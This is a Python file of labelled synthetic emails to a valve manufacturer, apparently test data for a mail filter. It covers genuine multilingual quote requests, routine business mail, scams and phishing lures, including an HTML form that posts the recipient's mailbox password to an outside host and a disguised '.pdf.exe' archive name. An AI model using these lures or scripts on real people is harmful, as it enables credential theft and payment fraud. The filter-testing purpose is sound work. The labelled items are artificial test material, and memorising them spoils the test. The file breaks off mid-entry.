"""The fifth part's texts (make_fifth.py writes them out). Written blind: before reading the rules,
checks, language data or any earlier part's items. Seller: Hengtai Valve (ball, gate, butterfly and
check valves), sales@hengtai-valves.example, UTC+8; mail of 29-30 November 2026."""

from __future__ import annotations

PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
       b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(40)) + b"Pedido_4500187.pdf.exe" + bytes(60)
JPG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(80) + b"\xff\xd9"


def form_page(title: str, action: str, prompt: str) -> str:
    return (f"<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>{title}</title></head><body>"
            f"<div style=\"font-family:Segoe UI;max-width:380px;margin:60px auto\"><h3>{title}</h3><p>{prompt}</p>"
            f"<form method=\"post\" action=\"{action}\"><input name=\"email\" value=\"sales@hengtai-valves.example\">"
            f"<input name=\"pass\" type=\"password\"><button>OK</button></form></div>"
            f"<script>document.forms[0].onsubmit=function(){{this.action+='&t='+Date.now()}}</script></body></html>")


MAILS: dict[str, dict] = {
    # ---------------------------------------------------------------- genuine buyer inquiries
    "g5-es-mx-gmail-monterrey.eml": dict(
        provider="gmail", date="2026-11-30 09:42:10", offset="-0600",
        **{"from": "Rodrigo Salinas <rsalinas.compras@gmail.com>"},
        subject="Cotización válvulas de bola DN50 / DN80 – Monterrey",
        body="""Buen día,

Somos una distribuidora de material hidráulico en Monterrey, N.L. Nos interesa cotizar:

- Válvula de bola bridada Q41F-16C, DN50, cuerpo de acero al carbono WCB, asiento PTFE: 400 piezas
- Válvula de bola bridada Q41F-16C, DN80, mismo material: 150 piezas

Precio CIF Manzanillo, por favor. ¿Cuál es su tiempo de entrega y el pedido mínimo? Normalmente pagamos 30 % de anticipo y 70 % contra copia del B/L.
También necesitamos el certificado de prueba hidrostática (EN 12266-1).

Saludos cordiales,
Rodrigo Salinas
Jefe de Compras
Suministros Industriales del Norte S.A. de C.V.
Tel. +52 81 5555 2417""",
        **{"class": "genuine"}, lang="es", kind="inquiry", signals="full"),

    "g5-pt-br-outlook-santos.eml": dict(
        provider="outlook", region="brazil", accept_lang="pt-BR", date="2026-11-30 10:05:31", offset="-0300",
        **{"from": "Juliana Prado <juliana.prado.compras@hotmail.com>"},
        subject="Solicitação de orçamento - válvulas gaveta DN100/DN150",
        body="""Bom dia,

Trabalho no setor de compras de uma construtora em Santos/SP. Precisamos de orçamento para:

Válvula gaveta ferro fundido, haste ascendente, PN16, DN100 – 60 unidades
Válvula gaveta ferro fundido, haste ascendente, PN16, DN150 – 24 unidades

Entrega CFR Porto de Santos. Vocês conseguem enviar laudo de ensaio junto com a cotação? Qual o prazo de produção?

Obrigada,
Juliana Prado
Compras – Construtora Litoral Paulista
(13) 3555-0192""",
        **{"class": "genuine"}, lang="pt", kind="inquiry", signals="full"),

    "g5-fr-ma-gmail-casablanca.eml": dict(
        provider="gmail", date="2026-11-30 11:20:05", offset="+0100",
        **{"from": "Youssef Benali <y.benali.achats@gmail.com>"},
        subject="Demande de prix – vannes papillon DN200 / DN250",
        body="""Bonjour,

Nous sommes une société d'installation hydraulique basée à Casablanca. Merci de nous faire votre meilleure offre pour :
- 80 vannes papillon à oreilles type D71X-16, DN200, corps fonte GGG40, disque inox 304, joint EPDM
- 40 vannes papillon du même type en DN250

Livraison CIF Casablanca. Merci de préciser le délai, les conditions de paiement et si les vannes sont livrées avec réducteur manuel.

Cordialement,
Youssef Benali
Responsable achats – Hydro Installations Maroc
+212 522 55 04 18""",
        **{"class": "genuine"}, lang="fr", kind="inquiry", signals="full"),

    "g5-de-zoho-stuttgart.eml": dict(
        provider="zoho", client_ip="93.209.162.179", client_host="p5dd1a2b3.dip0.t-ipconnect.de",
        date="2026-11-30 08:47:12", offset="+0100",
        **{"from": "Markus Weidner <m.weidner@armaturen-weidner.example>"},
        subject="Anfrage Rückschlagklappen DN65 / DN100",
        body="""Guten Morgen,

wir sind ein Großhändler für Haustechnik in Stuttgart und suchen einen weiteren Lieferanten für Rückschlagklappen.

Bedarf (Rahmenauftrag 2027, Abruf in 3 Teillieferungen):
- Rückschlagklappe Zwischenflansch-Ausführung, Edelstahl 1.4408, PN16, DN65 – 300 Stk.
- dto. DN100 – 200 Stk.

Bitte um Angebot FCA Shanghai oder CIF Hamburg, inkl. Lieferzeit und 3.1-Zeugnis nach EN 10204. Ein Zahlungsziel von 30 Tagen wäre uns wichtig – ist das bei Ihnen möglich?

Mit freundlichen Grüßen
Markus Weidner
Einkauf
Weidner Armaturen GmbH
Tel. +49 711 5550 3321""",
        **{"class": "genuine"}, lang="de", kind="inquiry", signals="full"),

    "g5-ar-eg-gmail-cairo.eml": dict(
        provider="gmail", date="2026-11-30 13:10:44", offset="+0200",
        **{"from": "محمد عبد الرحمن <m.abdelrahman.trading@gmail.com>"},
        subject="طلب عرض سعر - محابس بلية نحاس",
        body="""السلام عليكم ورحمة الله،

نحن شركة توريدات صناعية في القاهرة، ونرغب في الحصول على عرض سعر للأصناف التالية:
- محبس بلية نحاس 1 بوصة، ضغط تشغيل 25 بار: 2000 قطعة
- محبس بلية نحاس 2 بوصة، نفس المواصفات: 800 قطعة

السعر CIF ميناء الإسكندرية، مع توضيح مدة التسليم وطريقة الدفع. هل يمكن إرسال عينة واحدة من كل مقاس قبل الطلب؟ نتحمل نحن تكلفة الشحن.

مع الشكر،
محمد عبد الرحمن
مدير المشتريات - شركة النيل للتوريدات الصناعية
+20 2 2555 0143""",
        **{"class": "genuine"}, lang="ar", kind="inquiry", signals="full"),

    "g5-ru-yandex-novosibirsk.eml": dict(
        provider="yandex", client_ip="92.125.14.88", date="2026-11-30 15:30:02", offset="+0700",
        **{"from": "Алексей Морозов <a.morozov.snab@yandex.ru>"},
        subject="Запрос цены: краны шаровые 11с67п Ду50/Ду80",
        body="""Добрый день!

Компания «СибТеплоМонтаж», г. Новосибирск. Рассматриваем закупку шаровых кранов под приварку:
1. Кран шаровой 11с67п Ду50 Ру40 — 500 шт.
2. Кран шаровой 11с67п Ду80 Ру25 — 200 шт.

Условия поставки: DAP Новосибирск или до погранперехода Забайкальск, как вам удобнее. Оплата — предоплата 30 %, остаток по факту готовности.
Просим указать сроки изготовления и наличие сертификата ЕАС.

С уважением,
Алексей Морозов
Отдел снабжения ООО «СибТеплоМонтаж»
+7 383 555-27-40""",
        **{"class": "genuine"}, lang="ru", kind="inquiry", signals="full"),

    "g5-tr-gmail-izmir-short.eml": dict(
        provider="gmail", date="2026-11-30 10:55:19", offset="+0300",
        **{"from": "Emre Kaya <emrekaya.tesisat@gmail.com>"},
        subject="fiyat",
        body="""Merhaba, DN25 pirinç küresel vana 1000 adet için fiyat alabilir miyim? Teslimat İzmir.
İyi çalışmalar,
Emre""",
        **{"class": "genuine"}, lang="tr", kind="inquiry", signals="full"),

    "g5-pl-o365-poznan.eml": dict(
        provider="o365", region="eurprd", accept_lang="pl-PL", date="2026-11-30 09:15:40", offset="+0100",
        **{"from": "Katarzyna Nowicka <k.nowicka@instal-hurt.example>"},
        subject="Zapytanie ofertowe – zawory kulowe gwintowane 1/2\" - 1\"",
        body="""Dzień dobry,

jesteśmy hurtownią instalacyjną z Poznania. Prosimy o ofertę cenową na:
- zawór kulowy gwintowany mosiężny, niklowany, PN30, 1/2" – 3000 szt.
- j.w. 3/4" – 2000 szt.
- j.w. 1" – 1000 szt.

Warunki: FOB Ningbo lub CIF Gdańsk. Prosimy o informację o MOQ, czasie realizacji oraz możliwości nadruku naszego logo na dźwigni.

Z poważaniem
Katarzyna Nowicka
Dział Zakupów | Instal-Hurt Sp. z o.o.
tel. +48 61 555 40 27""",
        **{"class": "genuine"}, lang="pl", kind="inquiry", signals="full"),

    "g5-vi-gmail-hcmc.eml": dict(
        provider="gmail", date="2026-11-30 09:05:51", offset="+0700",
        **{"from": "Nguyễn Văn Hùng <hung.nguyen.vattu@gmail.com>"},
        subject="Hỏi giá van bướm và van cổng",
        body="""Chào anh/chị,

Công ty em là nhà thầu cấp thoát nước ở TP. Hồ Chí Minh. Bên em cần báo giá:
- Van bướm tay quay DN150 PN16, thân gang, đĩa inox: 120 cái
- Van cổng ty chìm DN100 PN16: 60 cái

Giao hàng CIF cảng Cát Lái. Anh/chị báo giúp em thời gian giao hàng và điều kiện thanh toán (L/C hoặc T/T). Hàng có CO, CQ không ạ?

Cảm ơn anh/chị.
Nguyễn Văn Hùng
Phòng Vật tư – Công ty TNHH Xây dựng Phú Hưng
0903 555 217""",
        **{"class": "genuine"}, lang="vi", kind="inquiry", signals="full"),

    "g5-th-outlook-bangkok-short.eml": dict(
        provider="outlook", region="apcprd", accept_lang="th-TH", date="2026-11-30 14:20:08", offset="+0700",
        **{"from": "Somchai P. <somchai.p@hotmail.com>"},
        subject="สอบถามราคาบอลวาล์ว",
        body="""สวัสดีครับ
ต้องการสอบถามราคาบอลวาล์วสแตนเลส 316 ขนาด 2 นิ้ว จำนวน 200 ตัว ส่งท่าเรือแหลมฉบัง รบกวนส่งใบเสนอราคาให้ด้วยครับ
ขอบคุณครับ
สมชาย""",
        **{"class": "genuine"}, lang="th", kind="inquiry", signals="full"),

    "g5-id-yahoo-surabaya.eml": dict(
        provider="yahoo", yregion="sg3", date="2026-11-30 10:40:27", offset="+0700",
        **{"from": "Budi Santoso <budi_santoso77@yahoo.co.id>"},
        subject="Permintaan penawaran harga katup",
        body="""Selamat siang Bapak/Ibu,

Kami dari CV Sumber Teknik, Surabaya, distributor peralatan industri. Mohon penawaran harga untuk:
1. Gate valve besi cor DN80 PN16 – 100 pcs
2. Check valve swing DN80 PN16 – 100 pcs

Harga CIF Tanjung Perak, Surabaya. Mohon info juga waktu produksi dan minimal order.

Terima kasih,
Budi Santoso
CV Sumber Teknik
0812-3555-0719""",
        **{"class": "genuine"}, lang="id", kind="inquiry", signals="full"),

    "g5-hi-gmail-pune-mixed.eml": dict(
        provider="gmail", date="2026-11-30 11:45:03", offset="+0530",
        **{"from": "Rajesh Kulkarni <rajesh.kulkarni.pune@gmail.com>"},
        subject="Ball valve quotation chahiye – Pune",
        body="""नमस्ते सर,

हम पुणे में industrial pipeline fittings के dealer हैं। हमें नीचे दिए गए items का quotation चाहिए:
- Ball valve SS304, flanged, 2 इंच, PN16 — 250 पीस
- Ball valve SS304, flanged, 3 इंच — 100 पीस

Delivery CIF Nhava Sheva चाहिए। कृपया price, delivery time और payment terms बताइए। Test certificate भी मिलेगा क्या?

धन्यवाद,
राजेश कुलकर्णी
Kulkarni Engineering Traders, Pune
+91 98220 55514""",
        **{"class": "genuine"}, lang="hi", kind="inquiry", signals="full"),

    "g5-ko-naver-incheon.eml": dict(
        provider="naver", client_ip="121.134.55.12", date="2026-11-30 10:30:36", offset="+0900",
        **{"from": "김민수 <minsu.kim77@naver.com>"},
        subject="볼밸브 견적 요청드립니다",
        body="""안녕하세요.

인천에 있는 배관자재 유통업체 한빛산업의 김민수 과장입니다.
아래 품목 견적 부탁드립니다.

- 스테인리스 볼밸브 (SCS13, 10K, 플랜지형) 40A: 300개
- 동일 사양 65A: 150개

인천항 CIF 조건으로 부탁드리며, 납기와 결제 조건도 함께 알려주시면 감사하겠습니다.
샘플 1개씩 먼저 받아볼 수 있을까요?

감사합니다.
김민수 드림
한빛산업 구매팀 / 032-555-7784""",
        **{"class": "genuine"}, lang="ko", kind="inquiry", signals="full"),

    "g5-ja-gmail-nagoya-short.eml": dict(
        provider="gmail", date="2026-11-30 09:20:15", offset="+0900",
        **{"from": "佐藤 健一 <k.sato.nagoya@gmail.com>"},
        subject="バタフライバルブのお見積りについて",
        body="""お世話になります。名古屋の佐藤と申します。
貴社のバタフライバルブ（100A、JIS 10K）について、カタログと概算価格をお送りいただけますでしょうか。
数量は年間500台程度を想定しております。
よろしくお願いいたします。""",
        **{"class": "genuine"}, lang="ja", kind="inquiry"),

    "g5-it-gmail-bologna-short.eml": dict(
        provider="gmail", date="2026-11-30 16:05:48", offset="+0100",
        **{"from": "Luca Ferri <luca.ferri.idraulica@gmail.com>"},
        subject="info valvole",
        body="""Buongiorno, avete valvole a sfera in ottone da 3/4" con leva a farfalla? Ce ne servirebbero circa 500, consegna a Bologna. Mi mandate prezzo e tempi? Grazie
Luca""",
        **{"class": "genuine"}, lang="it", kind="inquiry"),

    "g5-nl-workspace-antwerpen.eml": dict(
        provider="workspace", date="2026-11-30 14:12:22", offset="+0100",
        **{"from": "Pieter Janssens <pieter.janssens@vanhoutte-technics.example>"},
        subject="Prijsaanvraag kogelkranen 3-delig RVS",
        body="""Goedemiddag,

Voor een project in de haven van Antwerpen zoeken wij een leverancier van 3-delige RVS kogelkranen (316, ANSI 150, lasuiteinden):
- DN25: 400 st.
- DN50: 250 st.

Graag uw prijs CIF Antwerpen, de levertijd en welke certificaten u kunt leveren (ATEX, 3.1). Betaling gebeurt bij ons standaard 45 dagen na levering.

Met vriendelijke groet,
Pieter Janssens
Inkoper – Van Houtte Technics NV
+32 3 555 12 90""",
        **{"class": "genuine"}, lang="nl", kind="inquiry", signals="full"),

    "g5-es-cl-gmail-spanglish.eml": dict(
        provider="gmail", date="2026-11-30 12:33:57", offset="-0300",
        **{"from": "Camila Reyes <camila.reyes.mining@gmail.com>"},
        subject="RFQ knife gate valves – Antofagasta",
        body="""Hola, good morning,

Les escribo de una empresa de servicios mineros en Antofagasta. Necesitamos cotización de válvulas de cuchillo para relaves / we need a quote for knife gate valves:
- Knife gate valve DN300, PN10, cuerpo de hierro dúctil, compuerta SS304, actuador neumático — 12 unidades
- Lo mismo en DN400 — 6 unidades

Precio CIF Antofagasta por favor, y el plazo de entrega. Podemos pagar con carta de crédito.

Gracias / thanks,
Camila Reyes
Procurement – Servicios Mineros del Norte Ltda.""",
        **{"class": "genuine"}, lang="es", kind="inquiry", signals="full"),

    "g5-zh-qq-penang.eml": dict(
        provider="qq", client_ip="175.139.22.87", date="2026-11-30 15:40:11", offset="+0800",
        **{"from": "林伟强 <1876543210@qq.com>"},
        subject="询价：铜球阀 DN20 / DN25",
        body="""您好，

我们是马来西亚槟城的五金批发商，想询价贵司的铜球阀：
DN20 铜球阀，PN25，红色手柄，2000个
DN25 同款，1000个

请报 CIF 巴生港（Port Klang）价格，并告知交期和付款方式。谢谢！

林伟强
槟城 永兴五金有限公司
+60 4-555 2088""",
        **{"class": "genuine"}, lang="zh", kind="inquiry", signals="full"),

    "g5-ru-mailru-tashkent-short.eml": dict(
        provider="mailru", client_ip="213.230.88.14", date="2026-11-30 11:10:30", offset="+0500",
        **{"from": "Рустам Алиев <r.aliev_snab@mail.ru>"},
        subject="Задвижки",
        body="""Здравствуйте. Нужны задвижки 30с41нж Ду100, 40 шт, доставка Ташкент. Сколько стоит и когда сможете отгрузить?
Рустам""",
        **{"class": "genuine"}, lang="ru", kind="inquiry", signals="full"),

    # ---------------------------------------------------------------- ordinary mail that is not an inquiry
    "h5-en-ses-vessel-departure.eml": dict(
        provider="ses", date="2026-11-29 22:14:05", offset="+0000",
        **{"from": "BlueWave Shipping <no-reply@notify.bluewave-shipping.example>"},
        subject="Vessel departure notice – B/L BWSH2611874 – Ningbo to Rotterdam",
        body="""Dear Customer,

Your shipment has departed the port of loading.

B/L number: BWSH2611874
Shipper: HENGTAI VALVE CO., LTD.
Container: BWSU 4418270 (40' HC)
Vessel / voyage: BLUEWAVE AURORA / 048W
Port of loading: Ningbo, CN   ETD 29 Nov 2026
Port of discharge: Rotterdam, NL   ETA 03 Jan 2027

Track this shipment: https://track.bluewave-shipping.example/bl/BWSH2611874

This is an automated message. Please do not reply to this email.
BlueWave Shipping Line - Customer Notifications""",
        **{"class": "genuine"}, lang="en", kind="ham"),

    "h5-en-ses-fair-newsletter.eml": dict(
        provider="ses", ses_region="eu-west-1", date="2026-11-30 07:00:00", offset="+0000",
        **{"from": "FlowTech Asia 2027 <news@flowtech-asia.example>"},
        subject="FlowTech Asia 2027: floor plan released, early-bird stands until 15 December",
        body="""FlowTech Asia 2027 | Shanghai | 14-16 April 2027

Hello exhibitor,

The floor plan for Halls 3 and 4 (valves, pumps and actuation) is now online. Early-bird stand prices apply to bookings confirmed before 15 December 2026.

- 620 exhibitors from 31 countries expected
- New this year: a hydrogen-ready valves pavilion and a buyer matchmaking programme
- Conference call for papers closes 10 January 2027

View the floor plan: https://www.flowtech-asia.example/floorplan
Exhibitor manual (PDF): https://www.flowtech-asia.example/downloads/exhibitor-manual-2027.pdf

You receive this newsletter because you exhibited at FlowTech Asia 2025.
Unsubscribe: https://www.flowtech-asia.example/unsubscribe""",
        **{"class": "genuine"}, lang="en", kind="ham"),

    "h5-zh-workspace-colleague.eml": dict(
        provider="workspace", date="2026-11-30 08:31:09", offset="+0800",
        **{"from": "陈静 <chen.jing@hengtai-valves.example>"},
        subject="墨西哥客户报价单 + 周一例会改时间",
        body="""王经理：

蒙特雷那个客户的Q41F DN50/DN80报价单我已经做好了，放在共享盘“2026报价/美洲”文件夹里，麻烦您看一下运费那栏，CIF曼萨尼约的海运费是按上周货代给的价格算的。

另外今天的周例会改到下午3点，会议室B。

谢谢！
陈静
外贸部""",
        **{"class": "genuine"}, lang="zh", kind="ham"),

    "h5-en-ses-bank-credit.eml": dict(
        provider="ses", ses_region="ap-southeast-1", date="2026-11-30 02:46:18", offset="+0000",
        **{"from": "Harbour Commercial Bank <alerts@notify.harbourbank.example>"},
        subject="Inward remittance credited to account ending 4471",
        body="""Dear HENGTAI VALVE CO., LTD.,

An inward telegraphic transfer has been credited to your account.

Account: USD current account ****4471
Amount: USD 18,450.00
Remitter: WEIDNER ARMATUREN GMBH
Reference: INV HT-2611-052
Value date: 30 Nov 2026

Details are available in Corporate Online Banking under Accounts > Incoming Payments.
For your security we never ask for passwords, OTPs or token codes by email or phone.

Harbour Commercial Bank – Transaction Services
This is a system-generated message.""",
        **{"class": "genuine"}, lang="en", kind="ham"),

    "h5-de-o365-delivery-reply.eml": dict(
        provider="o365", region="eurprd", accept_lang="de-DE", date="2026-11-30 10:02:33", offset="+0100",
        **{"from": "Sabine Krüger <s.krueger@haustechnik-krueger.example>"},
        subject="AW: Lieferung Auftrag HT-2026-118 – Ware eingetroffen",
        in_reply_to="<HT2026118.shipping.7721@hengtai-valves.example>",
        references="<HT2026118.shipping.7721@hengtai-valves.example>",
        attach=[("Karton_17_beschaedigt.jpg", "image/jpeg", JPG)],
        body="""Hallo Frau Chen,

die Lieferung zu Auftrag HT-2026-118 ist heute Morgen bei uns eingegangen, vielen Dank.
Leider war Karton 17 (Kugelhähne DN32) beim Transport beschädigt, 6 Stück haben verbogene Hebel – Foto anbei.

Können Sie uns dafür eine Gutschrift erstellen oder die 6 Stück mit der nächsten Lieferung nachschicken? Beides ist für uns in Ordnung.

Viele Grüße
Sabine Krüger
Haustechnik Krüger GmbH & Co. KG""",
        **{"class": "genuine"}, lang="de", kind="ham"),

    "h5-en-o365-auto-reply.eml": dict(
        provider="o365", region="eurprd", date="2026-11-30 01:12:40", offset="+0000",
        **{"from": "Pieter Janssens <pieter.janssens@vanhoutte-technics.example>"},
        subject="Automatic reply: Quotation HT-Q2611-07 – 3-piece SS ball valves",
        headers=[("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All")],
        body="""Thank you for your message. I am out of the office until 2 December with limited access to email.
For urgent purchasing matters please contact inkoop@vanhoutte-technics.example.

Met vriendelijke groet,
Pieter Janssens""",
        **{"class": "genuine"}, lang="en", kind="ham"),

    # ---------------------------------------------------------------- scams
    "x5-en-gmail-cheque-forwarder.eml": dict(
        provider="gmail", date="2026-11-30 03:12:09", offset="+0000",
        **{"from": "Mark Donovan <markdonovan.procure81@gmail.com>"},
        subject="Order for ball valves - government water project",
        body="""Hello Sales Team,

I represent a contractor handling a government water project and we want 200 units of your ball valves, any standard size is fine. Kindly prepare the proforma invoice in our company name.

Our finance office will issue one company cheque covering the goods plus the freight charges, because our cargo handler is only paid through the supplier. Once the cheque clears to your account, you will wire the freight part (USD 4,800) directly to the handler so he can book the vessel space.

Please confirm you can work this way so we can proceed today.

Regards,
Mark Donovan
Procurement""",
        **{"class": "scam"}, lang="en", kind="overpayment"),

    "x5-es-gmail-excedente.eml": dict(
        provider="gmail", date="2026-11-30 04:40:51", offset="-0500",
        **{"from": "Tesorería Grupo Andino <tesoreria.grupoandino.pagos@gmail.com>"},
        subject="URGENTE: devolución de excedente - transferencia PI-2611",
        attach=[("comprobante_transferencia.pdf", "application/pdf", PDF)],
        body="""Estimado proveedor:

Le informo que nuestro departamento de tesorería realizó la transferencia correspondiente a la proforma PI-2611 por USD 23.600 en lugar de USD 13.600, por un error de digitación. Adjunto el comprobante.

Le ruego que nos reintegre los USD 10.000 excedentes a la cuenta de nuestro operador logístico en Panamá (datos abajo) a la brevedad, ya que el viernes tenemos auditoría interna y el saldo debe quedar conciliado. El resto del pedido sigue en pie.

Beneficiario: Logística Istmo Express S.A.
Banco: Banco Continental Istmeño
Cuenta: 04-7719-0032-8
SWIFT: BCISPAPA

Quedo atento a su confirmación.
Lic. Hernán Ocampo
Tesorería""",
        **{"class": "scam"}, lang="es", kind="overpayment"),

    "x5-fr-outlook-frais-conformite.eml": dict(
        provider="outlook", region="eurprd", accept_lang="fr-FR", date="2026-11-30 12:18:00", offset="+0000",
        **{"from": "Direction des Achats SOTRAME <achats.sotrame.ci@outlook.fr>"},
        subject="Votre offre est retenue – enregistrement fournisseur avant paiement",
        body="""Bonjour,

Nous avons le plaisir de vous informer que votre offre pour les vannes a été retenue par notre commission.

Avant la mise en paiement, la réglementation impose que tout fournisseur étranger soit inscrit au registre du Bureau National de Contrôle de Conformité. Les frais d'inscription (450 EUR) sont à la charge du fournisseur et se règlent directement auprès du cabinet agréé dont les coordonnées figurent ci-dessous. Dès réception de votre attestation d'inscription, la lettre de crédit sera émise à votre nom.

Cabinet Koné & Associés – Agent agréé
Contact : M. Ibrahim Koné, +225 07 55 18 44 02

Merci de traiter ce dossier sous 72 heures afin de ne pas perdre l'attribution.

Cordialement,
Service Achats – SOTRAME""",
        **{"class": "scam"}, lang="fr", kind="seller-pays-fee"),

    "x5-en-gmail-escrow-bond.eml": dict(
        provider="gmail", date="2026-11-30 05:02:37", offset="+0100",
        **{"from": "Daniel Hoffmann <danielhoffmann.imports@gmail.com>"},
        subject="Deposit lodged with escrow - please activate your seller account",
        body="""Dear Supplier,

Following your catalogue, we have decided to place our first order of 1,500 pcs brass ball valves (mixed sizes, you can choose the assortment). To protect both parties we only trade through SafeHarbor Trade Escrow, and our deposit of USD 38,200 has already been lodged with them.

To receive the release, the seller has to open a verified merchant profile on their portal. This needs a one-time compliance bond of USD 350, which is refunded with the first payout. Open your profile here:
https://safeharbor-tradeescrow.net/merchant/activate?ref=HX-55107

As soon as your profile is active, they release 50 % to you immediately.

Best regards,
Daniel Hoffmann""",
        **{"class": "scam"}, lang="en", kind="fake-escrow"),

    "x5-en-vps-platform-deposit.eml": dict(
        provider="vps", client_ip="91.92.251.37", vps_host="mail.sellercenter-notice.com", date="2026-11-30 19:25:00", offset="-0500",
        **{"from": "Alibaba.com Seller Compliance <compliance@sellercenter-notice.com>"},
        subject="[Action required] Storefront restriction pending – case #SC-7781420",
        body="""Dear Hengtai Valve,

Our Trust & Safety team has received 3 buyer disputes against your storefront in the last 30 days. In line with the seller standards, your product listings will be hidden from search results 48 hours after this notice.

To lift the restriction, a refundable buyer-protection guarantee of USD 1,280 must be placed on your account. You can place the guarantee and upload your explanation here:
https://sellercenter-notice.com/guarantee/SC-7781420

If you need help, your account officer is available on WhatsApp: +852 5555 0721.

Seller Compliance Team""",
        **{"class": "scam"}, lang="en", kind="fake-platform"),

    "x5-en-o365-supplier-new-account.eml": dict(
        provider="o365", region="apcprd", date="2026-11-30 06:55:12", offset="+0000",
        **{"from": "Accounts Receivable | Jinlong Copper <ar@jinlong-copper-group.example>"},
        reply_to="Jinlong Copper Finance <finance.jinlongcopper@outlook.com>",
        subject="RE: Payment schedule - INV-JL2611-33",
        body="""Dear Sir/Madam,

Thank you for the payment schedule. Kindly note that, following our annual audit, all payments for our invoices, including INV-JL2611-33 (USD 46,780.00) now due, must be made to our new account below. Our previous account is under review and incoming funds will be returned to the sender with charges.

Beneficiary: Jinlong Copper Group Ltd
Bank: Pacific Merchant Bank, Hong Kong branch
Account: 801-552190-838
SWIFT: PMBKHKHH

Please confirm the transfer by return email only, as our office phone lines are being upgraded this week.

Best regards,
Accounts Receivable
Jinlong Copper Group""",
        **{"class": "scam"}, lang="en", kind="bank-change"),

    "x5-pt-gmail-usdt-estoque.eml": dict(
        provider="gmail", date="2026-11-30 02:08:44", offset="+0100",
        **{"from": "Paulo Mendes <paulomendes.negocios2026@gmail.com>"},
        subject="compra imediata",
        body="""Olá,

Quero comprar válvulas, qualquer modelo que vocês tiverem pronto em estoque, até 50 mil dólares. O pagamento é só em USDT (TRC20), é mais rápido para nós. Mandem o endereço da carteira de vocês e eu pago hoje mesmo. O envio é para Luanda.

Paulo""",
        **{"class": "scam"}, lang="pt", kind="crypto"),

    "x5-ar-gmail-tender-fee.eml": dict(
        provider="gmail", date="2026-11-30 23:50:13", offset="+0300",
        **{"from": "إدارة المشتريات <procurement.watertender.dept@gmail.com>"},
        subject="ترسية المناقصة رقم 44/2026 - مطلوب استكمال تسجيل المورد",
        body="""السادة المحترمون،

يسرنا إبلاغكم بأنه تمت ترسية مناقصة توريد المحابس رقم 44/2026 على شركتكم بقيمة إجمالية 312,000 دولار أمريكي.

وقبل توقيع العقد وفتح الاعتماد المستندي، يتوجب على المورد الأجنبي سداد رسوم تسجيل المورد ورسوم توثيق العقد بمبلغ 950 دولاراً لدى مكتب المحاماة المعتمد لدى الوزارة، ثم إرسال إيصال السداد إلينا.

مكتب المحاماة: مكتب الراشد للاستشارات القانونية
للتواصل: +971 55 555 0418 (واتساب)

يرجى الإسراع قبل انتهاء مهلة الترسية خلال خمسة أيام عمل.

مع التحية،
لجنة المشتريات""",
        **{"class": "scam"}, lang="ar", kind="seller-pays-fee"),

    "x5-en-gmail-card-ready-stock.eml": dict(
        provider="gmail", date="2026-11-30 04:18:30", offset="-0600",
        **{"from": "Jake Williams <williamsjake4471@gmail.com>"},
        subject="order",
        body="""Hi,

I want to order some valves for my brother's plumbing business. What prices do you have on the ones ready to ship and do you take Visa or Amex? Send me your direct mobile number and your full name so my accountant can call you and run the card.

Thanks
Jake""",
        **{"class": "scam"}, lang="en", kind="card-question"),

    "x5-en-gmail-whatsapp-only.eml": dict(
        provider="gmail", date="2026-11-30 01:37:55", offset="+0000",
        **{"from": "Richard Cole <richardcole.sourcing@gmail.com>"},
        subject="Big valve order - please read",
        body="""Good day,

We have a large supply contract and your company was recommended. Because of confidentiality our IT department monitors all company email, so I can only discuss quantities and prices on WhatsApp. Add me on +44 7700 900512 and send me a message there with your name, I will share the full order list immediately.

Richard""",
        **{"class": "scam"}, lang="en", kind="off-platform"),

    # ---------------------------------------------------------------- phishing
    "p5-en-vps-po-view-link.eml": dict(
        provider="vps", client_ip="45.137.21.148", vps_host="srv-148.eu-cloud-host.net", date="2026-11-30 08:03:44", offset="+0400",
        **{"from": "Procurement Dept <purchase@gulfmarine-supply.example>"},
        subject="New PO #GMS-26-4471 - confirm delivery date",
        body="""Dear Supplier,

Please find our new purchase order PO #GMS-26-4471 for ball valves and gate valves. The document is protected and can be opened with your company email login:

https://gulfmarine-po.sharepoint-docs.online/view?id=GMS-26-4471&u=sales@hengtai-valves.example

Kindly confirm the delivery date and send the proforma invoice by today.

Regards,
Purchasing Department
Gulf Marine Supply LLC""",
        **{"class": "phishing"}, lang="en", kind="po-lure"),

    "p5-es-vps-cotizacion-html.eml": dict(
        provider="vps", client_ip="185.225.69.203", vps_host="vps203.mx-hosting.cloud", date="2026-11-30 17:44:10", offset="+0000",
        **{"from": "Compras Ferretería Central <compras@ferreteria-central.example>"},
        subject="Solicitud de cotización RFQ-2611 / urgente",
        attach=[("Solicitud_Cotizacion_RFQ-2611.html", "text/html",
                 form_page("Documento protegido", "https://cotizacion-segura.pages.dev/rx.php?id=2611",
                           "Ingrese la contraseña de su correo para ver la solicitud de cotización."))],
        body="""Buenas tardes,

Adjunto nuestra solicitud de cotización RFQ-2611 con las cantidades y especificaciones. Por favor envíe su mejor precio antes del viernes.

Saludos,
Departamento de Compras""",
        **{"class": "phishing"}, lang="es", kind="rfq-lure"),

    "p5-de-vps-rechnung-link.eml": dict(
        provider="vps", client_ip="194.26.29.115", vps_host="mx.de-dokument.top", date="2026-11-30 06:12:05", offset="-0700",
        **{"from": "Buchhaltung <rechnung@de-dokument.top>"},
        subject="Ihre Rechnung Nr. 2026-11-4471 steht bereit",
        body="""Sehr geehrte Damen und Herren,

anbei erhalten Sie die Rechnung Nr. 2026-11-4471 über 8.412,50 EUR für Ihre Bestellung vom 12.11.2026.
Aus Datenschutzgründen ist das Dokument nur über unser Kundenportal abrufbar:

https://rechnung-portal.de-dokument.top/abruf?nr=2026-11-4471

Bitte melden Sie sich mit Ihrer geschäftlichen E-Mail-Adresse an. Der Link ist 48 Stunden gültig.

Mit freundlichen Grüßen
Ihre Buchhaltung""",
        **{"class": "phishing"}, lang="de", kind="invoice-lure"),

    "p5-fr-vps-boite-pleine.eml": dict(
        provider="vps", client_ip="103.145.13.77", vps_host="host77.cloudvps-asia.net", date="2026-11-30 03:30:00", offset="+0000",
        mailer="none",
